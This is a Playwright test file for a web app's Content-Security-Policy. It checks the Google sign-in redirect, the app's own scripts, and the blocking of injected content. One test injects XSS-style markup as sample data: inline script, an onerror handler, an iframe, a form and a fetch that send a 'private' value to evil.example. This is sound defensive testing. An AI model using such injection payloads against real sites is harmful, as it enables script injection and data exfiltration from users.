import { expect, test } from "./fixtures";
import { ADA, signInAtGoogle } from "./sign-in-at-google";

test.describe("the policy of each page", () => {
  // Chromium stands for WebKit here: both apply `form-action` to a form’s redirects, Firefox doesn’t.
  test("HC-03 FC-5 lets the sign-in form’s POST lead to Google, and on from there", async ({
    page,
    app,
  }) => {
    const answer = await page.goto("/login");
    const policy = answer?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain(`form-action 'self' ${app.google.issuer} https:`);
    await page.getByRole("button", { name: "Sign in with Google" }).click();
    await expect(page).toHaveURL((url) => url.origin === app.google.issuer);
    await page.getByRole("button", { name: ADA }).click();
    await page.getByRole("button", { name: "Allow" }).click();
    await expect(page).toHaveURL(/\/dashboard$/);
  });

  test("HC-02 lets the app’s own scripts run: pages come alive and change without a load", async ({
    page,
  }) => {
    await page.goto("/login");
    await signInAtGoogle(page);
    await page.evaluate(() => Object.assign(window, { stillHere: true }));
    for (const name of ["Account", "Agenda", "Dashboard"]) {
      await page.getByRole("link", { name, exact: true }).click();
      await expect(page).toHaveURL(new RegExp(`/${name.toLowerCase()}$`));
      await expect(page.getByRole("main")).toContainText(/\w/);
    }
    expect(await page.evaluate(() => "stillHere" in window)).toBe(true);
  });

  test.describe("against what somebody has put into the page", () => {
    test.use({ expectedNoise: /Content Security Policy|violates the following/ });

    test("HC-02 runs no script of theirs, asks nobody else for anything, and says so in the log", async ({
      page,
      app,
    }) => {
      const failures: (string | undefined)[] = [];
      page.on("requestfailed", (request) => failures.push(request.failure()?.errorText));
      await page.goto("/login?returnTo=%2Fprivate");
      await page.evaluate(() => {
        const add = (html: string) =>
          document.body.append(document.createRange().createContextualFragment(html));
        add("<script>window.ran = 'inline'</script>");
        add("<script src='https://evil.example/x.js?private=1'></script>");
        add("<img src='https://evil.example/x.png?private=1' onerror=\"window.ran = 'handler'\">");
        add("<base href='https://evil.example/'>");
        add("<style>body { display: none }</style>");
        add("<iframe src='https://evil.example/?private=1'></iframe>");
        add("<form id='theirs' method='post' action='http://evil.example/?private=1'></form>");
        document.querySelector<HTMLFormElement>("#theirs")?.submit();
        return fetch("https://evil.example/?private=1").catch(() => undefined);
      });
      const directives = () =>
        app.log.lines
          .filter(({ event }) => event === "csp_violation")
          .map(({ fields }) => String(fields.directive));
      await expect
        .poll(() => new Set(directives()))
        .toEqual(
          new Set([
            "script-src-elem",
            "script-src-attr",
            "img-src",
            "base-uri",
            "style-src-elem",
            "frame-src",
            "form-action",
            "connect-src",
          ]),
        );
      // By scripts: Playwright waits for the form’s navigation, which never happens.
      const came = await page.evaluate(() => ({
        ran: "ran" in window,
        display: getComputedStyle(document.body).display,
      }));
      expect(came).toEqual({ ran: false, display: "block" });
      // None failed for want of a network: all were stopped before.
      expect(new Set(failures)).toEqual(new Set(["csp"]));
      const said = app.log.lines.filter(({ event }) => event === "csp_violation");
      expect(JSON.stringify(said)).not.toContain("private");
    });
  });
});
